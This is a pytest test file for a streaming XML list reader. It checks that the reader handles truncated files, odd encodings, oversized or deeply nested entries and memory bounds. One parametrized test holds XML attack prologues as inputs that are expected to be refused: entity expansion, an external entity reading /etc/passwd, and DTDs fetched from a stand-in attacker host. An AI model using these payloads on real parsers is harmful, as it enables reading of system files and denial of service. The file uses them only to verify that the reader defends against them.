"""XML from outside: hostile files are refused, damaged ones give what they can, memory is bounded."""

from __future__ import annotations

import gzip
import tracemalloc

import pytest

from didban.errors import InvalidFile
from didban.intake.readers import xml
from didban.intake.readers.base import Source
from didban.intake.readers.xml import read_entries, read_root

ENTRY = "<entry id='{0}'><name>Name {0}</name></entry>\n"
THREE = "<list>\n" + "".join(ENTRY.format(number) for number in (1, 2, 3)) + "</list>"


@pytest.fixture
def told():
    """Return the list that rejects and notes go to."""
    return []


@pytest.fixture
def entries(tmp_path, told):
    """Return a function from the bytes of a file to the names of its entries."""

    def read(data):
        path = tmp_path / "list.xml"
        path.write_bytes(data if isinstance(data, bytes) else data.encode())
        source = Source(kind="test", name="test", path=path)
        found = read_entries(source, told.append, roots=["list"], entries=["entry"])
        return [entry.node.text("name") for entry in found]

    return read


def test_entries_come_with_the_line_at_which_they_begin(tmp_path, told):
    """Rejects point there."""
    path = tmp_path / "list.xml"
    path.write_text(THREE)
    source = Source(kind="test", name="test", path=path)
    found = read_entries(source, told.append, roots=["list"], entries=["entry"])
    assert [(entry.node.attribute("id"), entry.line) for entry in found] == [
        ("1", 2),
        ("2", 3),
        ("3", 4),
    ]


@pytest.mark.parametrize(
    "prologue",
    [
        '<!DOCTYPE l [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;">]>',
        '<!DOCTYPE l [<!ENTITY secret SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE l SYSTEM "http://attacker.example.test/l.dtd">',
        '<!DOCTYPE l [<!ENTITY % all SYSTEM "http://attacker.example.test/all">%all;]>',
        "<!DOCTYPE html>",
    ],
)
def test_a_document_type_or_an_entity_refuses_the_file(entries, prologue):
    """No list declares any; whoever does means harm, or sent a web page."""
    with pytest.raises(InvalidFile, match="no list does"):
        entries(prologue + THREE)


@pytest.mark.parametrize(
    "data",
    [
        b"",
        b"   \n",
        b"ent_num,name\n1,A\n",
        b"%PDF-1.7",
        b"\x89PNG\r\n\x1a\n\x00\x00",
        b"<list",
        b"{}",
    ],
)
def test_what_is_no_xml_is_refused_whole(entries, data):
    """Mislabelled files give nothing."""
    with pytest.raises(InvalidFile, match="is not XML"):
        entries(data)


def test_another_root_is_refused_whole(entries):
    """The message says what was found and what was wanted."""
    with pytest.raises(InvalidFile, match="begins with <other>, not with <list>"):
        entries("<other><entry/></other>")


def test_a_whole_list_without_entries_is_refused(entries):
    """Read as a publication it would delist everybody."""
    with pytest.raises(InvalidFile, match="holds no <entry> at all"):
        entries("<list><head/></list>")


def test_a_file_that_is_cut_off_gives_the_entries_before(entries, told):
    """And a reject that says where it broke."""
    assert entries(THREE[: THREE.index("Name 3")]) == ["Name 1", "Name 2"]
    (reject,) = told
    assert reject.line == 4
    assert not reject.is_note


def test_a_file_that_is_cut_off_in_its_first_entry_is_refused(entries):
    """A snapshot of an empty list would say that nobody is on it."""
    with pytest.raises(InvalidFile, match="no whole entry"):
        entries(THREE[:30])


def test_a_cut_off_archive_gives_the_entries_before(entries, told):
    """The same for gzip."""
    many = "<list>" + "".join(ENTRY.format(number) for number in range(9000)) + "</list>"
    packed = gzip.compress(many.encode())
    names = entries(packed[: len(packed) // 2])
    assert 0 < len(names) < 9000
    assert names == [f"Name {number}" for number in range(len(names))]
    assert "damaged" in told[-1].reason


def test_malformed_xml_in_the_middle_gives_the_entries_before(entries, told):
    """Nothing after it can be trusted, and the reject says so."""
    assert entries(THREE.replace("Name 2</name>", "Name 2</nam>")) == ["Name 1"]
    assert told[0].line == 3


def test_bytes_that_are_not_utf8_are_read_as_windows_text(entries, told):
    """One note for the file, with the first line."""
    data = THREE.replace("Name 2", "L'Example – D").encode("cp1252")
    assert entries(data) == ["Name 1", "L'Example – D", "Name 3"]
    (note,) = told
    assert (note.line, note.is_note) == (3, True)


def test_control_characters_become_spaces(entries, told):
    """NUL among them; XML knows none of them."""
    assert entries(THREE.replace("Name 2", "Na\x00me\x0b2")) == ["Name 1", "Na me 2", "Name 3"]
    assert told[0].is_note


@pytest.mark.parametrize("encoding", ["utf-8-sig", "utf-16", "windows-1252", "iso-8859-1"])
def test_stated_encodings_are_followed(entries, told, encoding):
    """By byte order mark or declaration."""
    name = encoding.removesuffix("-sig")
    text = f'<?xml version="1.0" encoding="{name}"?>{THREE.replace("Name 2", "Käthe")}'
    assert entries(text.encode(encoding)) == ["Name 1", "Käthe", "Name 3"]
    assert told == []


def test_a_file_that_only_says_utf16_is_read_as_what_it_is(entries):
    """A habit of some tools; and UTF-16 without a mark is recognised."""
    text = f'<?xml version="1.0" encoding="utf-16"?>{THREE}'
    assert entries(text.encode()) == ["Name 1", "Name 2", "Name 3"]
    assert entries(text.encode("utf-16-be")) == ["Name 1", "Name 2", "Name 3"]


def test_damaged_utf16_is_read_with_gaps(entries, told):
    """What a damaged pair of bytes was, cannot be guessed."""
    data = THREE.encode("utf-16").replace("Name 2".encode("utf-16-le"), b"N\x00\x00\xdca\x00")
    assert entries(data) == ["Name 1", "N\ufffda", "Name 3"]
    assert [note.is_note for note in told] == [True]


@pytest.mark.parametrize("encoding", ["utf-7", "rot13", "base64", "no-such-encoding"])
def test_other_encodings_are_refused(entries, encoding):
    """They serve only to hide something."""
    with pytest.raises(InvalidFile, match="encoding"):
        entries(f'<?xml version="1.0" encoding="{encoding}"?>{THREE}')


def test_an_entry_over_the_limit_is_refused_alone(entries, told, monkeypatch):
    """The entries after it are read."""
    monkeypatch.setattr(xml, "MAX_ENTRY_CHARACTERS", 1000)
    assert entries(THREE.replace("Name 2", "x" * 2000)) == ["Name 1", "Name 3"]
    assert (told[0].line, told[0].is_note) == (3, False)


def test_a_list_of_nothing_but_refused_entries_is_not_taken_for_another_file(
    entries, told, monkeypatch
):
    """Each is refused by itself."""
    monkeypatch.setattr(xml, "MAX_ENTRY_CHARACTERS", 10)
    assert entries(THREE) == []
    assert [reject.line for reject in told] == [2, 3, 4]


def test_an_entry_nested_too_deep_is_refused_alone(entries, told):
    """Its depth would be walked again and again."""
    deep = "<a>" * 500 + "</a>" * 500
    assert entries(THREE.replace("Name 2", deep)) == ["Name 1", "Name 3"]
    assert len(told) == 1


def test_a_tag_that_never_ends_stops_the_reading(entries, told, monkeypatch):
    """The parser would have to hold all of it."""
    monkeypatch.setattr(xml, "MAX_TOKEN_BYTES", 200_000)
    endless = f"<list>{ENTRY.format(1)}<entry id='{'x' * 5_000_000}'/></list>"
    assert entries(endless) == ["Name 1"]
    assert "never ends" in told[0].reason


@pytest.mark.slow
def test_memory_does_not_grow_with_the_file(tmp_path):
    """A list four times as long needs no more of it."""

    def peak(number):
        path = tmp_path / "list.xml"
        path.write_text("<list>" + ENTRY.format(1) * number + "</list>")
        source = Source(kind="test", name="test", path=path)
        tracemalloc.start()
        for _ in read_entries(source, print, roots=["list"], entries=["entry"]):
            pass
        _, most = tracemalloc.get_traced_memory()
        tracemalloc.stop()
        return most

    assert peak(40_000) < 1.5 * peak(10_000)


def test_the_root_is_read_without_the_rest(tmp_path):
    """A damaged list still says when it was made."""
    path = tmp_path / "list.xml"
    path.write_text("<list made='2031-01-01'><entry><broken")
    source = Source(kind="test", name="test", path=path)
    assert read_root(source, roots=["list"]).attribute("made") == "2031-01-01"
